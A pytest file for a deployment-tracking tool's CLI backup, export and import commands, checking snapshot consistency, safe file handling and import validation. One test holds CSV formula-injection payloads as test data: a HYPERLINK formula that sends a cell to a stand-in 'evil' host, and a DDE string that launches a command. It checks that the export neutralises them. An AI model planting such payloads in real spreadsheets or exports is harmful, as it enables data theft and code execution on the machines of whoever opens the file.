"""`deploytrack backup`, `export` and `import` through the CLI, on real database files."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
import threading
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx2 as httpx
import pytest

from deploytrack.storage.ingest import EVENT_COLUMNS
from tests.conftest import REPO, auth, create_token, query, run_cli


def deploy(client, token, version, env="production", status="success", sha=None, **extra):
    body = {"product_name": "shop", "version": version, "environment_name": env, "status": status, **extra}
    if sha:
        body["scm_sha"] = sha
    resp = client.post("/deployment-events/", headers=auth(token), json=body)
    assert resp.status_code == 200, resp.text
    return resp.json()["id"]


def rows(db: Path | str, sql: str) -> list[tuple]:
    if not isinstance(db, Path):  # the PostgreSQL variant of a test: db is the URL
        return query(db, sql)
    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    try:
        return conn.execute(sql).fetchall()
    finally:
        conn.close()


# -- backup ----------------------------------------------------------------------------------


@pytest.mark.sqlite_only  # on PostgreSQL, backup points to pg_dump (test_postgres.py)
def test_backup_is_consistent_while_the_server_writes(live_server, token, tmp_path):
    stop = threading.Event()
    sent: list[int] = []

    def writer() -> None:
        with httpx.Client(base_url=live_server.url, headers=auth(token), timeout=10) as http:
            for i in range(400):
                if stop.is_set():
                    break
                resp = http.post("/deployment-events/", json={
                    "product_name": "shop", "version": f"1.{i}", "environment_name": "production",
                    "status": "success", "scm_sha": f"sha{i}"})
                assert resp.status_code == 200
                sent.append(i)

    thread = threading.Thread(target=writer)
    thread.start()
    counts = []
    try:
        for n in range(3):
            while len(sent) < 10 * (n + 1) and thread.is_alive():
                threading.Event().wait(0.01)
            target = tmp_path / f"backup-{n}.db"
            code, out = run_cli("backup", str(target), "--db", str(live_server.db))
            assert code == 0, out
            assert "Backed up" in out
            assert not Path(str(target) + "-wal").exists()
            [(check,)] = rows(target, "PRAGMA integrity_check")
            assert check == "ok"
            [(events,)] = rows(target, "SELECT COUNT(*) FROM events")
            # One snapshot: every event's deployment row and version row is in the same copy.
            assert rows(target, "SELECT COUNT(*) FROM events e LEFT JOIN deployments d ON d.id = e.deployment_id "
                                "WHERE d.id IS NULL") == [(0,)]
            assert rows(target, "SELECT COUNT(*) FROM deployments") == [(events,)]
            assert rows(target, "SELECT COUNT(*) FROM versions") == [(events,)]
            counts.append(events)
    finally:
        stop.set()
        thread.join()
    assert counts[0] >= 10 and counts == sorted(counts)
    final = tmp_path / "final.db"
    assert run_cli("backup", str(final), "--db", str(live_server.db))[0] == 0
    assert rows(final, "SELECT COUNT(*) FROM events") == [(len(sent),)]


@pytest.mark.sqlite_only
def test_backup_refuses_a_missing_database_and_its_own_file(tmp_path, db_path, token, capsys):
    assert run_cli("backup", str(tmp_path / "b.db"), "--db", str(tmp_path / "nope.db"))[0] == 2
    assert "no database at" in capsys.readouterr().err
    assert not (tmp_path / "nope.db").exists() and not (tmp_path / "b.db").exists()
    assert run_cli("backup", str(db_path), "--db", str(db_path))[0] == 1
    assert "another file" in capsys.readouterr().err


@pytest.mark.sqlite_only
def test_a_database_named_like_a_copys_temporary_file_survives_backup_and_export(client, token, db_path, tmp_path):
    """The copy used to be written to the fixed name `.NAME.partial` (deleted first, then renamed over NAME): a
    database called that was deleted by `backup NAME` and truncated by `export --output NAME`."""
    ids = [deploy(client, token, "1.0")]
    odd = tmp_path / ".x.partial"
    assert run_cli("backup", str(odd), "--db", str(db_path))[0] == 0
    assert run_cli("backup", str(tmp_path / "x"), "--db", str(odd))[0] == 0
    assert run_cli("export", "--output", str(tmp_path / "x"), "--db", str(odd))[0] == 0
    for source in (odd, tmp_path / "x.copy"):
        if source != odd:
            assert run_cli("backup", str(source), "--db", str(odd))[0] == 0
        code, out = run_cli("export", "--db", str(source))
        assert code == 0 and [json.loads(line)["id"] for line in out.splitlines()] == ids
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".partial")) == [".x.partial"]


@pytest.mark.sqlite_only
def test_export_of_a_file_whose_name_has_a_hash_or_question_mark(client, token, db_path, tmp_path):
    ids = [deploy(client, token, "1.0")]
    odd = tmp_path / "a#1?b.db"
    assert run_cli("backup", str(odd), "--db", str(db_path))[0] == 0
    code, out = run_cli("export", "--db", str(odd))
    assert code == 0 and [json.loads(line)["id"] for line in out.splitlines()] == ids
    assert not (tmp_path / "a").exists()


@pytest.mark.sqlite_only
def test_exporting_a_backup_leaves_it_one_file(client, token, db_path, tmp_path):
    """Reading a backup (one self-contained file) must not turn it into a WAL database with -wal and -shm files."""
    ids = [deploy(client, token, "1.0"), deploy(client, token, "1.1")]
    copy = tmp_path / "copy.db"
    assert run_cli("backup", str(copy), "--db", str(db_path))[0] == 0
    code, out = run_cli("export", "--db", str(copy))
    assert code == 0 and [json.loads(line)["id"] for line in out.splitlines()] == ids
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("copy")) == ["copy.db"]
    with sqlite3.connect(f"file:{copy}?mode=ro", uri=True) as conn:
        assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "delete"


@pytest.mark.sqlite_only
def test_neither_backup_nor_export_writes_over_the_database_or_its_wal(client, token, db_path, capsys):
    """`backup db-wal` beside a running server lost every event acknowledged; `export --output db` replaced the
    database with JSON Lines. Both are refused, and the database keeps its events."""
    ids = [deploy(client, token, "1.0"), deploy(client, token, "1.1")]
    wal = db_path.with_name(db_path.name + "-wal")
    link = db_path.with_name("alias.db")
    link.symlink_to(db_path)
    for target in (db_path, wal, db_path.with_name(db_path.name + "-shm"), link):
        assert run_cli("backup", str(target), "--db", str(db_path))[0] == 1, target
        assert "another file than the database" in capsys.readouterr().err
        assert run_cli("export", "--output", str(target), "--db", str(db_path))[0] == 1, target
        assert "is the database or one of its files" in capsys.readouterr().err
    code, out = run_cli("export", "--db", str(db_path))
    assert code == 0 and [json.loads(line)["id"] for line in out.splitlines()] == ids


@pytest.mark.sqlite_only  # (export's writing is the same on PostgreSQL; backup points to pg_dump there)
def test_backup_and_export_never_replace_a_device_or_pipe(client, token, db_path, tmp_path, capsys):
    """`backup /dev/null` once turned the device into a plain file (the copy is renamed into place); a FIFO
    stands in for it here: backup refuses it, export writes into it, and it stays a FIFO."""
    ids = [deploy(client, token, "1.0"), deploy(client, token, "1.1")]
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    assert run_cli("backup", str(fifo), "--db", str(db_path))[0] == 1
    assert "not a regular file" in capsys.readouterr().err
    assert fifo.is_fifo() and not list(tmp_path.glob(".pipe*"))

    read: list[str] = []
    reader = threading.Thread(target=lambda: read.extend(fifo.read_text().splitlines()), daemon=True)
    reader.start()
    assert run_cli("export", "--output", str(fifo), "--db", str(db_path))[0] == 0
    reader.join(10)
    assert not reader.is_alive() and [json.loads(line)["id"] for line in read] == ids
    assert fifo.is_fifo() and not list(tmp_path.glob(".pipe*"))

    # A link (as /dev/stdout is one) is written through, or its file replaced: never the link itself.
    kept, link = tmp_path / "kept.jsonl", tmp_path / "link"
    kept.write_text("old\n")
    link.symlink_to(kept)
    assert run_cli("export", "--output", str(link), "--db", str(db_path))[0] == 0
    assert link.is_symlink() and [json.loads(line)["id"] for line in kept.read_text().splitlines()] == ids
    kept_db, db_link = tmp_path / "kept.db", tmp_path / "db-link"
    db_link.symlink_to(kept_db)
    assert run_cli("backup", str(db_link), "--db", str(db_path))[0] == 0
    assert db_link.is_symlink() and query(kept_db, "SELECT COUNT(*) FROM events")[0][0] == 2

    code, out = run_cli("export", "--output", "-", "--db", str(db_path))
    assert code == 0 and [json.loads(line)["id"] for line in out.splitlines()] == ids and not Path("-").exists()
    capsys.readouterr()
    for command in (["export", "--output"], ["backup"]):
        for bad, says in (("", "names no file"), (str(tmp_path / "nowhere" / "x"), "there is no directory")):
            assert run_cli(*command, bad, "--db", str(db_path))[0] == 1, (command, bad)
            assert says in capsys.readouterr().err


# -- export ----------------------------------------------------------------------------------


def test_export_writes_every_column_of_every_event_in_arrival_order(client, token, db_path, tmp_path):
    ids = [deploy(client, token, "1.0", sha="a1", extra_metadata={"k": "v"}),
           deploy(client, token, "1.1", env="prod", status="failed", timestamp="2020-01-02T03:04:05.123456Z"),
           deploy(client, token, "1.2", summary='comma, "quote"\nnewline')]
    code, out = run_cli("export", "--db", str(db_path))
    assert code == 0
    lines = [json.loads(line) for line in out.splitlines()]
    assert [line["id"] for line in lines] == ids
    assert all(list(line) == list(EVENT_COLUMNS) for line in lines)
    assert lines[0]["metadata"] == {"k": "v"} and lines[0]["scm_sha"] == "a1"
    assert lines[1]["occurred_at"] == "2020-01-02T03:04:05.123456Z"
    assert (lines[1]["environment"], lines[1]["environment_raw"], lines[1]["status_raw"]) == \
        ("production", "prod", "failed")

    target = tmp_path / "events.csv"
    assert run_cli("export", "--format", "csv", "--output", str(target), "--db", str(db_path))[0] == 0
    table = list(csv.reader(io.StringIO(target.read_text())))
    assert table[0] == list(EVENT_COLUMNS)
    assert [r[1] for r in table[1:]] == ids
    by_name = [dict(zip(table[0], r, strict=True)) for r in table[1:]]
    assert json.loads(by_name[0]["metadata"]) == {"k": "v"}
    assert by_name[2]["summary"] == 'comma, "quote"\nnewline'
    assert by_name[1]["scm_sha"] == ""


def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(client, token, db_path, tmp_path):
    evil = '=HYPERLINK("http://evil/"&A1,"x")'
    resp = client.post("/deployment-events/", headers=auth(token), json={
        "product_name": evil, "version": "-2+3", "environment_name": "production", "status": "success",
        "deployed_by": "@admin", "summary": "+cmd|' /C calc'!A0"})
    assert resp.status_code == 200, resp.text
    target = tmp_path / "events.csv"
    assert run_cli("export", "--format", "csv", "--output", str(target), "--db", str(db_path))[0] == 0
    [header, row] = list(csv.reader(io.StringIO(target.read_text())))
    cell = dict(zip(header, row, strict=True))
    assert (cell["product"], cell["version"], cell["actor"]) == ("'" + evil, "'-2+3", "'@admin")
    assert cell["summary"] == "'+cmd|' /C calc'!A0"
    assert cell["environment"] == "production" and cell["seq"] == "1"  # plain cells and numbers untouched
    # JSON Lines is data, not a spreadsheet: kept exactly, and what import reads back.
    [line] = run_cli("export", "--db", str(db_path))[1].splitlines()
    assert json.loads(line)["product"] == evil


# -- import ----------------------------------------------------------------------------------


def test_import_of_an_export_keeps_ids_times_and_rebuilds_derived_rows(client, token, db_path, tmp_path):
    deploy(client, token, "1.0", status="started", sha="a1", invoke_id="run-1")
    deploy(client, token, "1.0", status="success", sha="a1", invoke_id="run-1")
    deploy(client, token, "2.0", env="stg", status="failed", timestamp="2024-05-01T10:00:00Z")
    client.post("/build-events/", headers=auth(token), json={"product_name": "cart", "version": "9", "status": "built"})
    export = tmp_path / "events.jsonl"
    assert run_cli("export", "--output", str(export), "--db", str(db_path))[0] == 0

    other = tmp_path / "other.db"
    code, out = run_cli("import", str(export), "--db", str(other), "--create")
    assert code == 0 and "Imported 4 events" in out
    code, out = run_cli("import", str(export), "--db", str(other))
    assert code == 0 and "Imported 0 events" in out and "4 were already stored" in out

    columns = [c for c in EVENT_COLUMNS if c != "token_id"]
    select = f"SELECT {', '.join(columns)} FROM events ORDER BY seq"
    assert rows(other, select) == rows(db_path, select)
    assert rows(other, "SELECT token_id FROM events") == [(None,)] * 4
    for table in ("deployments", "versions", "products", "environments"):
        everything = f"SELECT * FROM {table} ORDER BY 1, 2"
        assert rows(other, everything) == rows(db_path, everything)
    assert rows(other, "SELECT status, event_count FROM deployments WHERE invoke_id = 'run-1'") == [("completed", 2)]


def test_export_then_import_carries_commits_and_incidents_with_their_links(client, token, db_path, tmp_path):
    deploy(client, token, "1.0", sha="c1", timestamp="2026-06-01T10:00:00Z")
    first = deploy(client, token, "1.1", sha="c2", timestamp="2026-06-02T10:00:00Z")
    deploy(client, token, "1.2", timestamp="2026-06-03T10:00:00Z", change_id="CHG-7")
    resp = client.post("/api/v1/commits", headers=auth(token), json=[
        {"sha": "c1", "repository": "acme/shop", "committed_at": "2026-05-31T09:00:00Z", "message": "fix",
         "author": "a"},
        {"sha": "c2", "committed_at": "2026-06-01T09:00:00Z"}])
    assert resp.status_code in (200, 201), resp.text
    [(by_hand,)] = rows(db_path, f"SELECT deployment_id FROM events WHERE id = '{first}'")
    for body in ({"product": "shop", "title": "slow", "opened_at": "2026-06-02T12:00:00Z", "severity": "sev2",
                  "resolved_at": "2026-06-02T13:00:00Z", "metadata": {"ticket": "T-1"}},
                 {"change_id": "CHG-7", "title": "by change", "opened_at": "2026-06-03T11:00:00Z"},
                 {"product": "shop", "title": "by hand", "opened_at": "2026-06-04T11:00:00Z", "deployment_id": by_hand},
                 {"product": "cart", "title": "nothing deployed", "environment": "staging"}):
        resp = client.post("/api/v1/incidents", headers=auth(token), json=body)
        assert resp.status_code == 201, resp.text
    export = tmp_path / "all.jsonl"
    assert run_cli("export", "--output", str(export), "--db", str(db_path))[0] == 0
    kinds = [json.loads(line)["kind"] for line in export.read_text().splitlines()]
    assert kinds == ["deployment"] * 3 + ["commit"] * 2 + ["incident"] * 4

    other = tmp_path / "other.db"
    assert run_cli("import", str(export), "--db", str(other), "--create") == (
        0, f"Imported 3 events, 2 commits and 4 incidents from {export}; 0 were already stored.\n")
    # Importing again changes nothing: no commit rewritten, no day marked for recomputing.
    with sqlite3.connect(other) as conn:
        conn.execute("DELETE FROM dirty_days")
        conn.execute("DELETE FROM derived_stale")
    assert run_cli("import", str(export), "--db", str(other)) == (
        0, f"Imported 0 events from {export}; 9 were already stored.\n")
    assert rows(other, "SELECT COUNT(*) FROM dirty_days") == rows(other, "SELECT COUNT(*) FROM derived_stale") == [(0,)]
    edited = tmp_path / "edited.jsonl"
    edited.write_text(export.read_text().replace('"message":"fix"', '"message":"fixed"'))
    assert run_cli("import", str(edited), "--db", str(other)) == (
        0, f"Imported 0 events, 1 commits and 0 incidents from {edited}; 8 were already stored.\n")
    assert rows(other, "SELECT message FROM commits WHERE sha = 'c1'") == [("fixed",)]
    assert rows(other, "SELECT sha FROM derived_stale") == [("c1",)]
    assert run_cli("import", str(export), "--db", str(other))[0] == 0  # back as the source has it
    commits = "SELECT repository, sha, authored_at, committed_at, message, author FROM commits ORDER BY sha"
    assert rows(other, commits) == rows(db_path, commits)
    # Each incident as it was, linked to the same deployment (named by its event), by the same rule.
    incidents = ("SELECT i.product, i.product_given, i.environment, i.title, i.severity, i.status, i.opened_at, "
                 "i.resolved_at, i.change_id, i.metadata, i.created_at, i.link_rule, "
                 "(SELECT MIN(e.id) FROM events e WHERE e.deployment_id = i.deployment_id) "
                 "FROM incidents i ORDER BY i.id")
    assert rows(other, incidents) == rows(db_path, incidents)
    assert [r[0] for r in rows(other, "SELECT link_rule FROM incidents ORDER BY id")] == [
        "last_deployment", "change_id", "deployment_id", None]


def test_an_incident_whose_linked_deployment_was_deleted_exports_and_imports(client, token, db_path, tmp_path):
    deploy(client, token, "1.0", timestamp="2026-06-01T10:00:00Z")
    [dep] = [d["id"] for d in client.get("/api/v1/deployments", headers=auth(token)).json()["deployments"]]
    resp = client.post("/api/v1/incidents", headers=auth(token),
                       json={"title": "orphan", "opened_at": "2026-06-01T11:00:00Z", "deployment_id": dep})
    assert resp.status_code == 201, resp.text
    admin = create_token(db_path, "admin", "admin")
    assert client.delete("/api/v1/products/shop/events", headers=auth(admin)).status_code == 200
    incident = "SELECT product, product_given, title, opened_at, created_at, deployment_id, link_rule FROM incidents"
    assert client.get("/api/v1/incidents", headers=auth(token)).json()["incidents"][0]["deployment_id"] is None
    assert rows(db_path, incident)[0][:2] == ("", 0)
    export = tmp_path / "orphan.jsonl"
    assert run_cli("export", "--output", str(export), "--db", str(db_path))[0] == 0
    other = tmp_path / "other.db"
    assert run_cli("import", str(export), "--db", str(other), "--create") == (
        0, f"Imported 0 events, 0 commits and 1 incidents from {export}; 0 were already stored.\n")
    assert rows(other, incident) == rows(db_path, incident)


def test_incidents_alike_but_for_product_or_environment_all_import_once(db_path, tmp_path, capsys):
    lines = tmp_path / "incidents.jsonl"
    same = '"title": "down", "opened_at": "2026-06-01T10:00:00Z", "created_at": "2026-06-01T10:05:00Z"'
    lines.write_text("".join(f'{{"kind": "incident", {extra}, {same}}}\n' for extra in (
        '"product": "shop"', '"product": "cart"', '"product": "cart", "environment": "staging"')))
    for _ in range(2):
        assert run_cli("import", str(lines), "--db", str(db_path), "--create")[0] == 0
    assert rows(db_path, "SELECT product, environment FROM incidents ORDER BY id") == [
        ("shop", None), ("cart", None), ("cart", "staging")]
    # Without opened_at each run would store a copy opened "now": refused, naming the line and field.
    lines.write_text('{"kind": "build", "product": "shop"}\n{"kind": "incident", "product": "shop", "title": "x"}\n')
    assert run_cli("import", str(lines), "--db", str(db_path))[0] == 1
    err = capsys.readouterr().err
    assert "line 2" in err and "'opened_at' is required" in err, err
    assert rows(db_path, "SELECT COUNT(*) FROM incidents") == [(3,)]
    assert rows(db_path, "SELECT COUNT(*) FROM events") == [(0,)]


def test_an_incident_line_breaking_a_rule_stops_the_import_before_anything_is_written(db_path, tmp_path, capsys):
    soon = (datetime.now(UTC) + timedelta(hours=1)).isoformat()
    lines = tmp_path / "incidents.jsonl"
    for incident, field in (('"opened_at": "2026-06-02T10:00:00Z", "resolved_at": "2026-06-01T10:00:00Z"',
                             "'resolved_at' is before 'opened_at'"),
                            # resolved "now", before it opened
                            (f'"opened_at": "{soon}", "status": "resolved"', "'resolved_at' is before 'opened_at'")):
        lines.write_text('{"kind": "deployment", "product": "shop", "version": "1", "environment": "production"}\n'
                         '{"kind": "commit", "sha": "c1", "committed_at": "2026-06-01T09:00:00Z"}\n'
                         f'{{"kind": "incident", "product": "shop", "title": "x", {incident}}}\n')
        assert run_cli("import", str(lines), "--db", str(db_path), "--create")[0] == 1
        err = capsys.readouterr().err
        assert "line 3" in err and field in err, err
        tables = ("events", "commits", "incidents")
        assert [rows(db_path, f"SELECT COUNT(*) FROM {table}")[0][0] for table in tables] == [0, 0, 0]


def test_an_export_is_one_snapshot_while_others_write(db_path, tmp_path):
    backfill = tmp_path / "backfill.jsonl"
    backfill.write_text("".join(f'{{"kind": "build", "product": "shop", "version": "{i}", "summary": "{"x" * 200}", '
                                f'"occurred_at": "2026-06-01T10:00:00Z"}}\n' for i in range(1000)))
    assert run_cli("import", str(backfill), "--db", str(db_path), "--create")[0] == 0
    later = tmp_path / "later.jsonl"
    later.write_text('{"kind": "build", "product": "late", "version": "1"}\n'
                     '{"kind": "commit", "sha": "late", "committed_at": "2026-06-01T09:00:00Z"}\n'
                     '{"kind": "incident", "product": "late", "title": "late", "opened_at": "2026-06-01T11:00:00Z"}\n')
    # The export blocks on a full pipe inside the events (about 300 KB): the writes land mid-export.
    with subprocess.Popen([sys.executable, "-m", "deploytrack", "export", "--db", str(db_path)],
                          stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
                          env={**os.environ, "PYTHONPATH": str(REPO)}) as export:
        try:
            first = export.stdout.readline()
            assert run_cli("import", str(later), "--db", str(db_path))[0] == 0
            lines = [first, *export.stdout.read().splitlines()]
            assert export.wait(timeout=60) == 0
        finally:
            export.kill()
    assert len(lines) == 1000, [json.loads(line) for line in lines[1000:]]
    assert rows(db_path, "SELECT COUNT(*) FROM incidents") == [(1,)]  # stored, after the export's snapshot


def test_import_of_hand_written_backfill_lines_is_idempotent(make_client, db_path, tmp_path):
    backfill = tmp_path / "backfill.jsonl"
    backfill.write_text(
        '{"kind": "deployment", "product": "shop", "version": "0.9", "environment": "prod", '
        '"status": "deployed", "occurred_at": "2023-03-01T12:00:00Z", "scm_sha": "old1"}\n'
        "\n"
        '{"kind": "build", "product": "shop", "version": "0.9", "occurred_at": 1677672000}\n')
    assert run_cli("import", str(backfill), "--db", str(db_path), "--create") == (
        0, f"Imported 2 events from {backfill}; 0 were already stored.\n")
    assert run_cli("import", str(backfill), "--db", str(db_path))[1].startswith("Imported 0 events")
    assert rows(db_path, "SELECT kind, environment, environment_raw, status, status_raw, occurred_at, dialect "
                         "FROM events ORDER BY seq") == [
        ("deployment", "production", "prod", "completed", "deployed", 1677672000_000000, "import"),
        ("build", None, None, "completed", None, 1677672000_000000, "import")]
    # A backfilled past day is marked for the metrics job to recompute.
    assert rows(db_path, "SELECT day FROM dirty_days") == [(1677628800_000000,)]
    token = create_token(db_path, "reader", "read")
    resp = make_client().get("/api/v1/events", headers=auth(token))
    assert [e["kind"] for e in resp.json()["events"]] == ["build", "deployment"]


def test_a_bad_line_imports_nothing_and_names_the_line_and_field(db_path, tmp_path, capsys):
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"kind": "deployment", "product": "shop"}\n{"kind": "deploy", "product": "shop"}\n')
    assert run_cli("import", str(bad), "--db", str(db_path), "--create")[0] == 1
    err = capsys.readouterr().err
    assert "line 2" in err and "'kind'" in err
    assert rows(db_path, "SELECT COUNT(*) FROM events") == [(0,)]
    for text, expected in (('{"kind": "build"}', "'product' is required"),
                           ('{"kind": "build", "product": "p", "colour": 1}', "unknown field 'colour'"),
                           ('{"kind": "build", "product": "p", "occurred_at": "yesterday"}', "'occurred_at'"),
                           ('{"kind": "build", "product": "p", "status": "meh"}', "'status'"),
                           ('[1, 2]', "must be a JSON object"),
                           # an id that is no path segment: /events/a/b?c#d could never be read or deleted
                           ('{"kind": "build", "product": "p", "id": "a/b?c#d"}', "Field 'id' may hold only"),
                           ('{"kind": "build", "product": "p", "id": "x y"}', "Field 'id' may hold only"),
                           ("{not json", "not valid JSON")):
        bad.write_text(text + "\n")
        assert run_cli("import", str(bad), "--db", str(db_path))[0] == 1
        err = capsys.readouterr().err
        assert "line 1" in err and expected in err, err
    assert rows(db_path, "SELECT COUNT(*) FROM events") == [(0,)]


def test_a_version_sha_conflict_stops_the_import_at_that_line(db_path, tmp_path, capsys):
    lines = tmp_path / "conflict.jsonl"
    lines.write_text('{"kind": "build", "product": "p", "version": "1", "scm_sha": "aaa"}\n'
                     '{"kind": "build", "product": "p", "version": "1", "scm_sha": "bbb"}\n')
    assert run_cli("import", str(lines), "--db", str(db_path), "--create")[0] == 1
    err = capsys.readouterr().err
    assert "line 2" in err and "different SHA" in err
    assert rows(db_path, "SELECT COUNT(*) FROM events") == [(0,)]


@pytest.mark.slow
def test_import_while_the_server_takes_writes(live_server, token, tmp_path):
    backfill = tmp_path / "backfill.jsonl"
    backfill.write_text("".join(
        json.dumps({"kind": "deployment", "product": f"old-{i % 5}", "version": str(i), "environment": "production",
                    "occurred_at": 1_600_000_000 + i * 3600}) + "\n" for i in range(1200)))
    statuses: list[int] = []

    def writer() -> None:
        with httpx.Client(base_url=live_server.url, headers=auth(token), timeout=10) as http:
            for i in range(60):
                statuses.append(http.post("/build-events/", json={
                    "product_name": "live", "version": str(i), "status": "built"}).status_code)

    thread = threading.Thread(target=writer)
    thread.start()
    try:
        code, out = run_cli("import", str(backfill), "--db", str(live_server.db))
    finally:
        thread.join()
    assert code == 0 and "Imported 1200 events" in out
    assert statuses == [200] * 60
    assert query(live_server.db, "SELECT COUNT(*) FROM events") == [(1260,)]  # staged ones projected first
    with httpx.Client(base_url=live_server.url, headers=auth(token)) as http:
        events = http.get("/api/v1/events", params={"product": "old-3", "limit": 500}).json()["events"]
    assert len(events) == 240
